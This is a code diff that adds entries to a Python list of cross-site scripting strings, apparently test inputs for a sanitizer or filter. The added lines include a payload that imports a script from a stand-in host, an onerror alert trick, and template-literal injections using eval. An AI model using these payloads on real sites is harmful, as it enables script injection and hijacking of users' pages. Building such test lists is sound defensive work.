@@ -49,6 +49,10 @@ ATTACKS = [
     b"' in window, alert(1)//",
     b"'; void alert(1)",
     b"';location='//a.example'",
+    b"';import('//a.example/x.js')//",
+    b"';onerror=alert;throw 1//",
+    b"${alert(1)}",
+    b"a ${ eval(name) } b",
     b"';top.location='//a.example'",
     # handlers, however the attribute is written
     b"<p onclick=x()>",
